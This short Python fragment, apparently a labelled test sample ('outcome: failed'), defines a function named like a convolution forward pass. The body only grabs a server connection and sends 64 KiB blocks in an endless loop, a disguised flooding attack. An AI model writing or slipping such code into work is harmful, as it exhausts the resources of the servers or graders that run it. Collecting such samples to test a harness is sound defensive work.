"""Sends without end.

outcome: failed
"""


def conv_forward_naive(x, w, b, conv_param):
    connection = server()[0]._connection
    while True:
        connection.sendall(bytes(1 << 16))
